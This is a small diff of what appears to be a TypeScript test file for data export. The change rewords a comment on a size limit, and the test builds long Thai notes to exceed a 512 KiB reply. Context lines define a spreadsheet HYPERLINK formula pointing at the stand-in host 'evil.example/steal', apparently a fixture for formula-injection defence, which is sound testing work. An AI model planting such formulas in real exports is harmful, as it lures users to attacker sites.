@@ -19,7 +19,8 @@ const verifyExport = (file: string) =>
 const FORMULA = '=HYPERLINK("http://evil.example/steal","เปิดรายงาน")';
 const ORG_A = '0190a000-0000-7000-8000-00000000000a';
 const ORG_B = '0190a000-0000-7000-8000-00000000000b';
-// the last reports carry long notes, so that the MOU itself (its latest 50 reports of each of 6 KPIs) is over 1 MiB
+// the last reports carry long notes, so that the MOU itself (its latest 20 reports of each of 6 KPIs, ~690 KB) is
+// over the 512 KiB a command's reply carries
 const LONG_NOTE = 'รายงานความก้าวหน้าตัวชี้วัดประจำไตรมาส '.repeat(50);
 
 /**
